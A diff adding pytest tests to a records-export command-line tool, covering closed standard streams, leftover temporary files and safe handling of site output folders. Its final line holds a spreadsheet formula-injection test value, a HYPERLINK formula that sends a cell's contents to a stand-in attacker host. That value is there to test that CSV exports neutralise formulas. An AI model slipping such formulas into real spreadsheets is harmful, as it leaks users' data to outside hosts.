@@ -179,6 +179,201 @@ def test_a_sidecar_that_cannot_be_removed_stops_the_export_and_keeps_the_old_dat
     assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(("x.db", ".frameworks"))) == ["x.db", "x.db-journal"]
 
 
+# -- 3. Closed standard streams -----------------------------------------------------------------
+
+# Every command that writes a file, with the file it writes (relative to the run's folder).
+WRITERS = {
+    "export-json": (["export", "-o", "out.json"], "out.json"),
+    "export-csv": (["export", "-o", "out.csv"], "out.csv"),
+    "export-sqlite": (["export", "-o", "out.db"], "out.db"),
+    "site": (["site", "-o", "site"], "site/index.html"),
+    "list": (["list", "-o", "out.md"], "out.md"),
+    "topics": (["topics", "-o", "out.md"], "out.md"),
+    "show": (["show", "alpha", "-o", "out.html"], "out.html"),
+    "compare": (["compare", "alpha", "beta", "-o", "out.txt"], "out.txt"),
+    "timeline": (["timeline", "-o", "out.json"], "out.json"),
+    "signatories": (["signatories", "alpha", "-o", "out.csv"], "out.csv"),
+    "schema": (["schema", "-o", "out.json"], "out.json"),
+    "new": (["new", "gamma", "--kind", "treaty", "-o", "gamma.yaml"], "gamma.yaml"),
+    "brief": (["brief", "alpha", "beta", "-o", "out.pdf"], "out.pdf"),
+    "pack": (["pack", "-o", "out.pdf"], "out.pdf"),
+}
+
+
+def closing(*fds: int):  # type: ignore[no-untyped-def]
+    """preexec_fn: the command starts with these descriptors closed, as `>&-` and `2>&-` leave them."""
+    return lambda: [os.close(fd) for fd in fds]
+
+
+STREAMS = {"stdout": (1,), "stderr": (2,), "both": (1, 2)}
+# The PDF commands take a few seconds each: they run once, with both streams closed.
+CLOSED_CASES = [(c, how) for c in sorted(WRITERS) for how in STREAMS if c not in ("brief", "pack") or how == "both"]
+
+
+@pytest.mark.parametrize(("command", "streams"), CLOSED_CASES)
+def test_a_command_that_writes_a_file_succeeds_with_a_standard_stream_closed(tmp_path: Path, root: Path, command: str, streams: str) -> None:
+    closed = STREAMS[streams]
+    args, written = WRITERS[command]
+    out = tmp_path / "out"
+    out.mkdir()
+    kept = {1: "stdout", 2: "stderr"}
+    streams = {kept[fd]: subprocess.PIPE for fd in (1, 2) if fd not in closed}
+    result = subprocess.run(
+        [sys.executable, "-m", "space_frameworks", "--root", str(root), *args],
+        env=environment(tmp_path),
+        cwd=out,
+        preexec_fn=closing(*closed),
+        timeout=TIMEOUT,
+        **streams,
+    )
+    assert result.returncode == 0, result.stderr
+    assert (out / written).is_file() and (out / written).stat().st_size > 0
+    assert not result.stdout  # messages go to stderr, and never into the file written
+    if result.stderr is not None:
+        assert b"Traceback" not in result.stderr and result.stderr.startswith(b"wrote ")
+    assert b"wrote" not in (out / written).read_bytes()[:1000]
+
+
+def test_output_printed_to_a_closed_stdout_ends_in_one_line_and_exit_1(tmp_path: Path, root: Path) -> None:
+    result = subprocess.run(
+        [sys.executable, "-m", "space_frameworks", "--root", str(root), "compare", "alpha", "beta"],
+        env=environment(tmp_path),
+        preexec_fn=closing(1),
+        stderr=subprocess.PIPE,
+        timeout=TIMEOUT,
+    )
+    assert result.returncode == 1
+    assert result.stderr == b"frameworks: cannot write the output: standard output is closed\n"
+
+
+@pytest.mark.parametrize("command", ["export-json", "site", "new"])
+def test_messages_to_a_stderr_nobody_reads_are_dropped_quietly(tmp_path: Path, root: Path, command: str) -> None:
+    args, written = WRITERS[command]
+    out = tmp_path / "out"
+    out.mkdir()
+    reading, writing = os.pipe()
+    os.close(reading)  # a pipe whose reader has gone: every write to it fails (EPIPE)
+    try:
+        result = subprocess.run(
+            [sys.executable, "-m", "space_frameworks", "--root", str(root), *args],
+            env=environment(tmp_path),
+            cwd=out,
+            stdout=subprocess.PIPE,
+            stderr=writing,
+            timeout=TIMEOUT,
+        )
+    finally:
+        os.close(writing)
+    assert result.returncode == 0 and result.stdout == b""
+    assert (out / written).is_file()
+
+
+# -- 4. No temporary file or folder left behind ---------------------------------------------------
+
+
+def temporary_settings(tmp_path: Path, how: str) -> tuple[dict[str, str], Path]:
+    """The environment for `how` $TMPDIR is, and the folder where temporary files would go.
+
+    Python takes the first usable of $TMPDIR, $TEMP, $TMP, /tmp...: with $TMPDIR unset or unusable,
+    $TEMP names the watched folder, so that a file left in "the temporary folder" is seen.
+    """
+    watched = tmp_path / "temporary"
+    watched.mkdir()
+    env = {k: v for k, v in environment(tmp_path).items() if k not in ("TMPDIR", "TEMP", "TMP")}
+    if how == "set":
+        env["TMPDIR"] = str(watched)
+    elif how == "unset":
+        env["TEMP"] = str(watched)
+    else:  # read-only (root writes anywhere, so for root a file stands for a folder it cannot write in)
+        blocked = tmp_path / "read-only"
+        if os.geteuid() == 0:
+            blocked.write_text("not a folder", encoding="utf-8")
+        else:
+            blocked.mkdir(mode=0o500)
+        env["TMPDIR"], env["TEMP"] = str(blocked), str(watched)
+    return env, watched
+
+
+# The PDF commands (a few seconds each) with $TMPDIR set only: where Python puts temporary files is the same for all.
+TEMPORARY_CASES = [(c, how) for c in ("export-json", "export-sqlite", "site") for how in ("set", "unset", "read-only")]
+
+
+@pytest.mark.parametrize(("command", "how"), [*TEMPORARY_CASES, ("brief", "set"), ("pack", "set")])
+def test_no_temporary_file_is_left_behind_on_success_or_failure(tmp_path: Path, root: Path, command: str, how: str) -> None:
+    env, watched = temporary_settings(tmp_path, how)
+    args, written = WRITERS[command]
+    out = tmp_path / "out"
+    out.mkdir()
+    ok = cli(tmp_path, "--root", str(root), *args, env=env, cwd=out)
+    assert ok.returncode == 0, ok.stderr
+    files = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
+    assert list(watched.iterdir()) == []
+    # The same command failing at the end: the output's folder cannot be written.
+    target = written.split("/")[0]
+    (out / target).rename(tmp_path / "moved") if (out / target).exists() else None
+    os.chmod(out, 0o500)
+    try:
+        if os.geteuid() == 0:  # root writes anywhere: make the write fail with a file-size limit instead
+            failed = cli(tmp_path, "--root", str(root), *args, env=env, cwd=out, preexec_fn=file_size_limit(2000))
+        else:
+            failed = cli(tmp_path, "--root", str(root), *args, env=env, cwd=out)
+    finally:
+        os.chmod(out, 0o700)
+    assert failed.returncode == 2, failed.stderr
+    no_traceback(failed)
+    assert len(failed.stderr.decode().strip().splitlines()) == 1, failed.stderr
+    assert list(watched.iterdir()) == []
+    assert sorted(str(p.relative_to(out)) for p in out.rglob("*")) == [f for f in files if not f.startswith(target)]
+
+
+def file_size_limit(size: int):  # type: ignore[no-untyped-def]
+    """preexec_fn: no file larger than `size` bytes can be written (RLIMIT_FSIZE, as a full disk)."""
+    import resource
+
+    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
+
+
+def test_a_brief_that_cannot_write_its_file_ends_in_one_line(tmp_path: Path, root: Path) -> None:
+    env, watched = temporary_settings(tmp_path, "set")
+    result = cli(tmp_path, "--root", str(root), "brief", "alpha", "beta", "-o", str(tmp_path / "b.pdf"), env=env, preexec_fn=file_size_limit(20_000))
+    assert result.returncode == 2
+    assert result.stderr.decode().splitlines() == [f"frameworks: cannot make {tmp_path / 'b.pdf'}: File too large"]
+    assert list(watched.iterdir()) == [] and not (tmp_path / "b.pdf").exists()
+
+
+# -- 5. Site folders ------------------------------------------------------------------------------
+
+
+def test_a_symlinked_site_folder_stays_a_link_to_the_new_build(tmp_path: Path, root: Path) -> None:
+    builds = tmp_path / "builds"
+    builds.mkdir()
+    assert cli(tmp_path, "--root", str(root), "site", "-o", str(builds / "v1")).returncode == 0
+    (builds / "v1" / "stale.html").write_text("from the earlier build", encoding="utf-8")
+    public = tmp_path / "public"
+    public.symlink_to("builds/v1")
+    result = cli(tmp_path, "--root", str(root), "site", "-o", str(public))
+    assert result.returncode == 0, result.stderr
+    assert public.is_symlink() and os.readlink(public) == "builds/v1"
+    assert (public / "index.html").is_file() and not (public / "stale.html").exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["builds", "cache", "public", "records"]
+    assert sorted(p.name for p in builds.iterdir()) == ["v1"]  # nothing left beside the build
+
+
+@pytest.mark.parametrize("given", [".", "..", "../here", "{parent}"])
+def test_a_site_folder_that_holds_the_current_folder_is_refused(tmp_path: Path, root: Path, given: str) -> None:
+    here = tmp_path / "work" / "here"
+    here.mkdir(parents=True)
+    (here / "notes.txt").write_text("mine", encoding="utf-8")
+    output = given.format(parent=str(tmp_path / "work"))
+    result = cli(tmp_path, "--root", str(root), "site", "-o", output, cwd=here)
+    assert result.returncode == 2
+    assert result.stderr.decode().splitlines() == [
+        f"frameworks: cannot write the site to {output}: it holds the current folder, and a build replaces its folder whole; give another, e.g. -o site"
+    ]
+    assert (here / "notes.txt").read_text(encoding="utf-8") == "mine"
+    assert sorted(p.name for p in (tmp_path / "work").iterdir()) == ["here"]
+
+
 # -- 6. Spreadsheet formulas in CSV; JSON and SQLite keep the text ------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
